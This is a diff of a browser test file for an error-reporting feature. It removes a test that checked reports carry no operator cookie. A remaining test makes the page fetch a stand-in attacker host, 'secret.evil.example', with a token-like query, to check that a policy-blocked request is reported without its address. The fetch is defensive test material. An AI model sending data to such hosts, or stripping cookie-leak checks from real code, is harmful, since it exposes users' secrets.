@@ -96,15 +96,6 @@ test('a rejection that nobody handles is reported, and so is an error before the
     await arrives('crash', { error: 'Error', route: 'login' });
   }));
 
-test('a report carries no cookie of the operator’s host', (stage) =>
-  visit(stage, '/wallet', async (page) => {
-    await page.context().addCookies([{ name: 'staff', value: 'secret', domain: HOST, path: '/' }]);
-    const reporting = page.waitForRequest(`**${REPORTS}`);
-    await page.evaluate(() => void Promise.reject(new TypeError('no cookie')));
-    assert.is((await (await reporting).allHeaders()).cookie, undefined);
-    await arrives('rejection', { error: 'TypeError', route: 'wallet' });
-  }));
-
 test('what the policy blocks is reported without its address', (stage) =>
   visit(stage, '/refer', async (page) => {
     await page.evaluate(() => setTimeout(() => fetch('https://secret.evil.example/?t=7001').catch(() => {})));
